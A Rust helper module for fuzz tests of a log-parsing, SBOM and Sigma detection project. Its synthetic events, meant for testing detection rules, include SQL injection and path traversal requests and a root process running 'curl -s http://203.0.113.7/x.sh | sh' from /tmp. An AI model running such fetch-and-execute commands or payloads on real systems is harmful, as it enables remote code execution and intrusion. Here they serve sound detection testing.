//! Helpers shared by the fuzz targets in `fuzz_targets/`: fixed clocks and time zones so that a
//! crash reproduces, input splitting, and the invariants every parsed record or inventory keeps.

use std::borrow::Cow;
use std::path::Path;
use std::sync::OnceLock;

use chrono::{DateTime, FixedOffset, TimeZone, Utc};
use ironpost_core::event::{Event, LogRecord, ProcessEvent};
use ironpost_log_pipeline::parsers::Ctx;
use ironpost_log_pipeline::{Format, ParseOptions, parse_line_with};
use ironpost_sbom_scanner::Inventory;
use ironpost_sbom_scanner::sbom::{BomMeta, Merged, cyclonedx_string, spdx_string};
use ironpost_sigma::LogSourceMap;

/// The reference instant of every parse: year inference must not depend on the day a crash is
/// replayed.
pub fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 6, 15, 12, 0, 0)
        .single()
        .expect("a valid instant")
}

/// A time zone picked from the input's length, so that plain-text seeds stay plain text while
/// the zone arithmetic (negative, half-hour and extreme offsets) is still exercised.
pub fn timezone(data: &[u8]) -> FixedOffset {
    const OFFSETS: [i32; 5] = [0, 2 * 3600, -(5 * 3600), 5 * 3600 + 1800, 14 * 3600];
    FixedOffset::east_opt(OFFSETS[data.len() % OFFSETS.len()]).expect("offsets are in range")
}

/// Parse options with the fixed clock, the input-derived zone and normalization on.
pub fn parse_options(data: &[u8]) -> ParseOptions {
    ParseOptions {
        timezone: timezone(data),
        now: Some(now()),
        normalize: true,
    }
}

/// The parser context the log-pipeline parsers take directly.
pub fn ctx(data: &[u8]) -> Ctx<'static> {
    Ctx {
        source: "fuzz",
        now: now(),
        tz: timezone(data),
    }
}

/// The input as text, invalid UTF-8 replaced (what every source does before parsing).
pub fn text(data: &[u8]) -> Cow<'_, str> {
    String::from_utf8_lossy(data)
}

/// The input cut at its first NUL byte: the text before, and the rest (if there is a NUL).
/// Targets that read two files (go.mod and go.sum, yarn.lock and package.json, TOML and
/// environment) take them this way.
pub fn split_nul(data: &[u8]) -> (&[u8], Option<&[u8]>) {
    match data.iter().position(|&b| b == 0) {
        Some(i) => (&data[..i], Some(&data[i + 1..])),
        None => (data, None),
    }
}

/// What every record a parser returns keeps: a format name, a syslog facility and severity in
/// range.
pub fn check_record(rec: &LogRecord) {
    assert!(!rec.format.is_empty(), "a record names its format");
    if let Some(f) = rec.facility {
        assert!(f <= 23, "facility {f} out of range");
    }
    if let Some(s) = rec.severity {
        assert!(s <= 7, "severity {s} out of range");
    }
}

/// What every parsed inventory keeps, then the work a scan does with it: one edge list per
/// package, every edge pointing at a package, a purl per package, the merge and both SBOMs.
pub fn check_inventory(inv: &Inventory) {
    assert_eq!(
        inv.deps.len(),
        inv.packages.len(),
        "one edge list per package"
    );
    for list in &inv.deps {
        for &j in list {
            assert!(j < inv.packages.len(), "edge to package {j} out of range");
        }
    }
    for p in &inv.packages {
        let _ = p.purl();
    }
    let parents = inv.parents();
    for i in 0..inv.packages.len().min(64) {
        let _ = inv.via(&parents, i);
    }
    let invs = std::slice::from_ref(inv);
    let _ = Merged::new(invs);
    let mut meta = BomMeta::new("fuzz");
    meta.timestamp = now();
    let _ = cyclonedx_string(invs, &meta);
    let _ = spdx_string(invs, &meta);
}

/// The path handed to lockfile parsers (only used in error messages).
pub fn lock_path(name: &str) -> &Path {
    Path::new(name)
}

/// The shipped Sigma log-source mapping, parsed once per process.
pub fn sigma_map() -> LogSourceMap {
    static MAP: OnceLock<LogSourceMap> = OnceLock::new();
    MAP.get_or_init(LogSourceMap::default_map).clone()
}

/// A few events of every kind the shipped log-source mapping routes (sshd, sudo, auditd, web
/// access, process execution), each repeated at increasing times, for rules compiled from fuzzed
/// text to be evaluated and correlated on. Built once per process.
pub fn sigma_events() -> &'static [Event] {
    static EVENTS: OnceLock<Vec<Event>> = OnceLock::new();
    EVENTS.get_or_init(build_sigma_events)
}

fn build_sigma_events() -> Vec<Event> {
    const LINES: [(&str, Format); 6] = [
        (
            "Jun 15 11:58:01 web1 sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52314 ssh2",
            Format::Rfc3164,
        ),
        (
            "Jun 15 11:58:09 web1 sshd[4242]: Accepted password for root from 203.0.113.7 port 52320 ssh2",
            Format::Rfc3164,
        ),
        (
            "Jun 15 11:58:30 web1 sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh",
            Format::Rfc3164,
        ),
        (
            "type=EXECVE msg=audit(1749988710.123:77): argc=3 a0=\"bash\" a1=\"-c\" a2=\"id\"",
            Format::Auditd,
        ),
        (
            "203.0.113.7 - - [15/Jun/2025:11:58:40 +0000] \"GET /index.php?id=1%27%20OR%201=1 HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.7\"",
            Format::AccessLog,
        ),
        (
            "{\"time\":\"2025-06-15T11:58:50Z\",\"service\":\"nginx\",\"remote_addr\":\"203.0.113.7\",\"request\":\"GET /../../etc/passwd HTTP/1.1\",\"status\":404}",
            Format::Json,
        ),
    ];
    let opts = ParseOptions {
        now: Some(now()),
        ..ParseOptions::default()
    };
    let mut out = Vec::new();
    for round in 0..3i64 {
        let shift = chrono::Duration::seconds(round * 7);
        for (line, format) in LINES {
            let mut rec = parse_line_with(line, format, "fuzz", &opts).expect("a valid line");
            rec.timestamp += shift;
            out.push(Event::Log(rec));
        }
        out.push(Event::Process(ProcessEvent {
            timestamp: now() + shift,
            pid: 4343,
            ppid: 4242,
            uid: 0,
            gid: 0,
            user: Some("root".into()),
            image: "/usr/bin/curl".into(),
            argv: vec!["curl".into(), "-s".into(), "http://203.0.113.7/x.sh".into()],
            argv_truncated: false,
            command_line: "curl -s http://203.0.113.7/x.sh | sh".into(),
            cwd: Some("/tmp".into()),
            parent_image: Some("/bin/bash".into()),
            parent_command_line: Some("bash -i".into()),
            cgroup_id: 0,
            container: None,
        }));
    }
    out
}
